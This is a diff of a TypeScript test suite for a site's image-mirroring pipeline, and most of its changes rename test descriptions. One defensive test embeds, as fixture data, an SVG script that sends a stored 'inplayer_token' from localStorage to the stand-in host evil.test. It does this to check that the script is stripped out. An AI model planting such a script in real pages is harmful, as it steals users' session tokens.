@@ -55,7 +55,7 @@ const heroNow = () => {
   return found
 }
 
-it("copies the large pictures and the banner to the site's own origin, with their size", async () => {
+it("a pull copies hero images and the banner to the site's origin and stores their dimensions", async () => {
   const { warnings } = await ingestNow()
   const { hero, none, banner } = heroNow()
   expect(hero?.map(({ width, height }) => [width, height])).toEqual([
@@ -68,7 +68,7 @@ it("copies the large pictures and the banner to the site's own origin, with thei
   expect(warnings).toEqual(['Media without a picture on the platform: film0002'])
 })
 
-it('records that an item has no picture, and no longer once its card has one', async () => {
+it('an item is recorded as pictureless after a 404, but not after a 500 or with a card image', async () => {
   const card = '/v2/media/film0002/images/card.webp?poster_fallback=1&width=320'
   const recorded = () => {
     const snapshot = openSnapshot(file, { readOnly: true })
@@ -78,7 +78,7 @@ it('records that an item has no picture, and no longer once its card has one', a
     return found
   }
   expect(recorded()).toEqual([false, true])
-  // A server that fails once proves nothing
+  // A 500 is no proof of a missing image
   remote.upset(card, { status: 500 }, { status: 500 })
   await ingestNow()
   expect(recorded()).toEqual([false, false])
@@ -91,7 +91,7 @@ it('records that an item has no picture, and no longer once its card has one', a
   await ingestNow()
 })
 
-it('shows a banner that lies on the site itself, and warns by name of one that cannot be read', async () => {
+it('a banner path of the site is used, and an unreadable banner path is omitted with a warning', async () => {
   const config = remote.answers['/apps/configs/demo0001.json']
   const bannerAt = async (banner: string) => {
     remote.answers['/apps/configs/demo0001.json'] = { ...Object(config), assets: { banner } }
@@ -114,7 +114,7 @@ it('shows a banner that lies on the site itself, and warns by name of one that c
   }
 })
 
-it('puts next to the pages exactly what they name', async () => {
+it('linkPictures adds exactly the images that the pages reference to the output', async () => {
   const snapshot = openSnapshot(file, { readOnly: true })
   const out = join(folder, 'dist')
   const to = join(out, '_images')
@@ -132,7 +132,7 @@ it('puts next to the pages exactly what they name', async () => {
   expect(bytesIn(to)).toEqual(bytesIn(join(folder, 'images')))
 })
 
-it('keeps the copy of a picture that can no longer be had, and names a new one anew', async () => {
+it('an image that fails to download retains its stored copy, and a changed image has a new URL', async () => {
   const before = heroNow().hero
   remote.upset(background('film0001', 640), { status: 500 }, { status: 500 })
   remote.answers[background('film0001', 1280)] = picture(1280, 721)
@@ -143,7 +143,7 @@ it('keeps the copy of a picture that can no longer be had, and names a new one a
   expect(after?.[1]?.src).not.toBe(before?.[1]?.src)
 })
 
-it('asks for an unchanged picture by its etag only', async () => {
+it('an unchanged image is requested with its ETag and retained on a 304 response', async () => {
   const etag = { headers: { etag: '"one"' }, body: picture(640, 360) }
   remote.upset(background('film0001', 640), etag, { status: 304 })
   await ingestNow()
@@ -152,12 +152,12 @@ it('asks for an unchanged picture by its etag only', async () => {
   expect(heroNow().hero?.[0]).toMatchObject({ width: 640, height: 360 })
 })
 
-it('says so when a picture is none', async () => {
+it('an image URL that returns HTML adds a warning', async () => {
   remote.answers[background('film0002', 640)] = '<html>Sorry</html>'
   expect((await ingestNow()).warnings[0]).toMatch(/^A picture could not be mirrored: .*film0002.* is no picture/)
 })
 
-it('an SVG of a publisher is shown as a sharp picture, and no script in it comes onto the site', async () => {
+it('a publisher SVG is converted to WebP, and its script is not stored on the site', async () => {
   const script = '<script>new Image().src = "//evil.test/" + localStorage.getItem("inplayer_token")</script>'
   remote.answers['/banner.svg'] = picture(300, 60, script)
   remote.answers[background('film0001', 1280)] = picture(1280, 722, script)
@@ -176,7 +176,7 @@ it('an SVG of a publisher is shown as a sharp picture, and no script in it comes
   expect({ format, width, height }).toEqual({ format: 'webp', width: 1280, height: 256 })
 })
 
-it('a picture of a kind that browsers do not show is left out, with a warning', async () => {
+it('an image in a format without browser support is omitted with a warning', async () => {
   const tiff = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#ff0000' } })
     .tiff()
     .toBuffer()
@@ -185,7 +185,7 @@ it('a picture of a kind that browsers do not show is left out, with a warning', 
   expect(heroNow().none).toEqual([])
 })
 
-it('the copy of an SVG that an older version of the site kept is not shown again', async () => {
+it('an SVG copy stored by an older version is downloaded again and converted to WebP', async () => {
   const db = new DatabaseSync(join(folder, 'images', 'index.sqlite'))
   writeFileSync(join(folder, 'images', 'old.svg'), picture(300, 60))
   db.prepare('update image set etag = ?, file = ? where url = ?').run('"old"', 'old.svg', `${remote.url}/banner.svg`)
